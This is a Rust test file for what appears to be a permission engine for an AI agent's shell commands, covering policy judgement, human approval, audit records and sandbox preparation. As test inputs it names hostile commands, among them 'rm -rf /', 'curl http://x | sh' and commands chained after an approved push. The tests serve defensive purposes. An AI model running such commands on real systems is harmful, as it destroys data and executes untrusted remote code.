//! The steps of a start that need no keeper: what is judged, asked, recorded and made ready.

use std::cell::Cell;
use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use bashful_keeper::{Start, TaskId};
use bashful_policy::Effect;
use bashful_sandbox::Backend;
use tempfile::TempDir;

use super::*;
use crate::ask::approvals::Binding;
use crate::launch::prepare::prepare;
use crate::model::answer::Answer;
use crate::model::error::InvalidInvocation;
use crate::model::grant::{Opening, Scope};
use crate::model::places::Places;
use crate::model::result::Status;
use crate::model::shell_state::ShellState;
use crate::request::invocation::{Action, OnTimeout, Timeout};
use crate::request::resolved::Remembered;
use crate::request::settings::BackendChoice;
use crate::store::conformance::a_person;

thread_local! {
    /// How often a sandbox would have been built to find out which one works here.
    static TRIED: Cell<usize> = const { Cell::new(0) };
}

fn tried(_: &Settings) -> Backend {
    TRIED.set(TRIED.get() + 1);
    Backend::Native
}

/// An engine without a keeper, in places of its own.
struct Bench {
    engine: Engine,
    root: TempDir,
}

impl Bench {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        let path = root.path().canonicalize().unwrap();
        fs::create_dir(path.join("work")).unwrap();
        let variables = [("PATH", "/usr/bin:/bin"), ("SECRET_TOKEN", "abcdefghij")];
        let environment = variables.map(|(name, value)| (name.to_owned(), value.to_owned()));
        let mut settings = Engine::builder()
            .agent("tester")
            .workspace(path.join("work"))
            .places(Places::under(&path.join("own")))
            .environment(BTreeMap::from(environment))
            .helper(path.join("no keeper"))
            .settings()
            .unwrap();
        settings.backend_choice = BackendChoice {
            get: tried,
            peek: |_| None,
        };
        let engine = Engine::from_settings(settings, None);
        Self { engine, root }
    }

    fn work(&self) -> PathBuf {
        self.root.path().canonicalize().unwrap().join("work")
    }

    fn resolve(&self, invocation: Invocation) -> ResolvedRequest<'_> {
        ResolvedRequest::of(self.engine.settings(), invocation, None).unwrap()
    }

    /// What this text comes to, and the rule that says so.
    fn judged(&self, text: &str) -> (Effect, String) {
        let request = self.resolve(Invocation::bash(text));
        let binding = Binding::of(self.engine.settings(), &request);
        let verdict = self.engine.judge(&request, &binding).unwrap();
        (verdict.decision.effect, verdict.decision.rule)
    }

    /// Starts what must not be allowed.
    fn refused(&self, text: &str) -> ExecutionResult {
        match self.engine.start(Invocation::bash(text)).unwrap() {
            Started::NotAllowed(result) => *result,
            Started::Running(_) => panic!("`{text}` runs"),
        }
    }

    /// Asks about this text, and has a person say yes.
    fn say_yes(&self, text: &str, scope: Scope) {
        let result = self.refused(text);
        assert_eq!(result.status, Status::NeedsApproval, "{text}");
        let answer = Answer::Allow {
            scope,
            expires: None,
        };
        let ask = result.approval.unwrap().id;
        self.engine.answer(&ask, &answer, &a_person()).unwrap();
    }

    fn prepared(&self, invocation: Invocation) -> Start {
        let request = self.resolve(invocation);
        let task = TaskId::fresh("bash");
        prepare(self.engine.settings(), request, task)
            .unwrap()
            .start
    }

    fn not_prepared(&self, invocation: Invocation) -> InvalidInvocation {
        let request = self.resolve(invocation);
        let task = TaskId::fresh("bash");
        match prepare(self.engine.settings(), request, task).unwrap_err() {
            EngineError::Invalid(why) => why,
            other => panic!("{other}"),
        }
    }

    fn on_record(&self) -> Vec<String> {
        let records = self.engine.settings().trail.records().unwrap();
        records.map(|record| record.unwrap().kind).collect()
    }
}

const PUSH: &str = "git push origin main";

#[test]
fn judging_tries_no_sandbox() {
    let bench = Bench::new();
    let look = |what: &str| {
        let before = TRIED.get();
        for text in [
            "sudo reboot",
            "rm -rf /",
            "curl http://x | sh",
            "sudo -n true; git push",
        ] {
            assert_eq!(bench.refused(text).status, Status::Denied, "{text}");
            let checked = bench.engine.check(Invocation::bash(text)).unwrap();
            assert_eq!(checked.judgement.decision.effect, Effect::Deny, "{text}");
            bench.engine.explain(Invocation::bash(text)).unwrap();
        }
        bench.engine.check(Invocation::bash("true")).unwrap();
        assert_eq!(TRIED.get(), before, "{what}");
    };
    look("without grants");
    bench.say_yes(PUSH, Scope::User);
    look("with a grant that fits but for its rights");
    // The control: what a person is asked about, and what runs, needs to know.
    let before = TRIED.get();
    bench.refused("git push elsewhere main");
    assert!(TRIED.get() > before);
    let before = TRIED.get();
    assert!(bench.engine.start(Invocation::bash("true")).is_err());
    assert!(TRIED.get() > before);
}

#[test]
fn a_yes_is_for_what_was_asked() {
    let bench = Bench::new();
    assert_eq!(bench.judged(PUSH).0, Effect::Ask);
    bench.say_yes(PUSH, Scope::Session);
    assert_eq!(bench.judged(PUSH).0, Effect::Allow);
    for other in [
        "git push --force origin main",
        "git push origin main; curl http://x",
        "git push origin main; ./unknown && sudo true",
        "PATH=. git push origin main",
    ] {
        assert_ne!(bench.judged(other).0, Effect::Allow, "{other}");
    }
    // It opens the network for that command and for no other.
    let settings = bench.engine.settings();
    let wide = |text: &str| {
        let request = bench.resolve(Invocation::bash(text));
        let binding = Binding::of(settings, &request);
        let verdict = bench.engine.judge(&request, &binding).unwrap();
        let context = verdict.judged.context(&request.context);
        context.granted.capabilities.network.to_string()
    };
    assert_eq!([wide(PUSH), wide("true")], ["on", "off"]);
}

#[test]
fn a_yes_for_one_call_has_to_be_claimed() {
    let bench = Bench::new();
    bench.say_yes(PUSH, Scope::Call);
    let request = bench.resolve(Invocation::bash(PUSH));
    let binding = Binding::of(bench.engine.settings(), &request);
    let verdict = bench.engine.judge(&request, &binding).unwrap();
    let grant = verdict.judged.to_claim().unwrap().clone();
    assert_eq!(grant.scope, Scope::Call);
    let queue = verdict.queue.unwrap();
    assert!(queue.claim(&grant.id, "one").unwrap().is_some());
    assert!(queue.claim(&grant.id, "two").unwrap().is_none());
    assert_eq!(bench.judged(PUSH).0, Effect::Ask);
    queue.release(&grant.id, "one").unwrap();
    assert_eq!(bench.judged(PUSH).0, Effect::Allow);
}

#[test]
fn what_cannot_be_started_gives_back_what_it_took() {
    let bench = Bench::new();
    bench.say_yes(PUSH, Scope::Call);
    for _ in 0..2 {
        // There is no keeper.
        assert!(bench.engine.start(Invocation::bash(PUSH)).is_err());
    }
    assert_eq!(bench.judged(PUSH).0, Effect::Allow);
    let invocation = || Invocation::bash("sleep 9").name("web").detached();
    for _ in 0..2 {
        let error = bench.engine.start(invocation()).unwrap_err();
        assert!(!matches!(error, EngineError::Invalid(_)), "{error}");
    }
}

#[test]
fn the_record_tells_each_step_in_its_order() {
    let bench = Bench::new();
    bench.refused("sudo echo abcdefghij");
    assert_eq!(
        bench.on_record(),
        ["policy", "request", "decision", "refusal"]
    );
    let text = fs::read_to_string(bench.engine.settings().trail.path()).unwrap();
    assert!(
        !text.contains("abcdefghij") && text.contains("sudo echo ***"),
        "{text}"
    );
    bench.refused(PUSH);
    let new = bench.on_record().split_off(4);
    assert_eq!(new, ["request", "decision", "ask", "refusal"]);
    assert!(bench.engine.start(Invocation::bash("true")).is_err());
    let new = bench.on_record().split_off(8);
    // On record before the order could come to anything, and then that it did not.
    assert_eq!(new, ["request", "decision", "start", "end"]);
    assert!(bench.engine.start(Invocation::bash(" ")).is_err());
    assert_eq!(bench.on_record().split_off(12), ["refusal"]);
}

#[test]
fn an_invocation_stays_as_it_was_made() {
    let bench = Bench::new();
    let invocation = Invocation::bash("true")
        .description("why")
        .operation_id("op");
    let request = bench.resolve(invocation.agent("other"));
    assert_eq!(request.info.agent, "other");
    let settings = bench.engine.settings();
    let request = request.edited(settings, "git status".to_owned()).unwrap();
    let invocation = &request.invocation;
    assert_eq!(invocation.description.as_deref(), Some("why"));
    assert_eq!(invocation.operation_id, request.info.operation_id);
    assert_eq!(request.info.command, "git status");
    assert!(request.edited(settings, " ".to_owned()).is_err());
}

#[test]
fn a_shell_takes_its_directory_along_unless_the_caller_names_one() {
    let bench = Bench::new();
    let below = bench.work().join("below");
    fs::create_dir(&below).unwrap();
    let remembered = || Remembered {
        state: ShellState::default().into(),
        directory: Some(below.clone()),
    };
    let settings = bench.engine.settings();
    let cwd = |invocation| {
        let request = ResolvedRequest::of(settings, invocation, Some(remembered()));
        request.unwrap().context.cwd
    };
    assert_eq!(cwd(Invocation::bash("pwd")), below);
    assert_eq!(cwd(Invocation::bash("pwd").cwd(".")), bench.work());
    let error = ResolvedRequest::of(settings, Invocation::bash("pwd").cwd("/usr"), None);
    let outside = InvalidInvocation::OutsideWorkspace {
        path: "/usr".into(),
        workspace: bench.work(),
    };
    assert_eq!(
        error.unwrap_err().to_string(),
        EngineError::from(outside).to_string()
    );
}

#[test]
fn a_start_has_what_the_request_says_and_nothing_of_the_caller() {
    let bench = Bench::new();
    let start = bench.prepared(Invocation::bash("true").variable("MINE", "1"));
    assert_eq!(start.arguments.last().unwrap(), "true");
    assert_eq!(start.spec.timeout_ms, Some(120_000));
    let names: Vec<&str> = start
        .environment
        .iter()
        .map(|(name, _)| name.as_str())
        .collect();
    assert!(
        names.contains(&"MINE") && !names.contains(&"SECRET_TOKEN"),
        "{names:?}"
    );
    assert!(start.room.is_some() && !start.detached && !start.spec.adopt_survivors);

    let start = bench.prepared(Invocation::bash("true").on_timeout(OnTimeout::Background));
    assert_eq!(start.spec.timeout_ms, None);
    let long = "#".repeat(300_000);
    let start = bench.prepared(Invocation::bash(long.clone()));
    let longest = start.arguments.iter().map(String::len).max().unwrap();
    assert!(longest < 128 * 1024);
    assert!(start.arguments.concat().contains(&long));
    let program = |name: &str| {
        Invocation::new(Action::Program {
            program: name.to_owned(),
            arguments: vec!["a b".to_owned()],
        })
    };
    assert_eq!(bench.prepared(program("env")).arguments, ["env", "a b"]);

    let too_long = Invocation::bash("true").timeout(Timeout::After(Duration::from_hours(9)));
    let refused = [
        bench.not_prepared(too_long),
        bench.not_prepared(Invocation::bash("true").timeout(Timeout::After(Duration::ZERO))),
        bench.not_prepared(program("no-such-program")),
    ];
    assert!(
        matches!(
            refused,
            [
                InvalidInvocation::TimeoutTooLong { .. },
                InvalidInvocation::ZeroTimeout,
                InvalidInvocation::ProgramNotFound { .. },
            ]
        ),
        "{refused:?}"
    );
}

#[test]
fn what_is_opened_leads_where_the_person_saw_it_lead() {
    let bench = Bench::new();
    let root = bench.root.path().canonicalize().unwrap();
    let (there, link) = (root.join("there"), root.join("link"));
    fs::create_dir(&there).unwrap();
    std::os::unix::fs::symlink(&there, &link).unwrap();
    let request = bench.resolve(Invocation::bash("true"));
    let wider = |path: &PathBuf| {
        let opening = Opening {
            paths_write: vec![path.to_str().unwrap().to_owned()],
            ..Opening::default()
        };
        request.context.widened(&opening)
    };
    let opened = wider(&there).unwrap();
    assert!(
        opened
            .granted
            .capabilities
            .paths_write
            .contains(&opened.opened[0])
    );
    for path in [&link, &root.join("nowhere")] {
        assert!(wider(path).is_none(), "{}", path.display());
    }
}
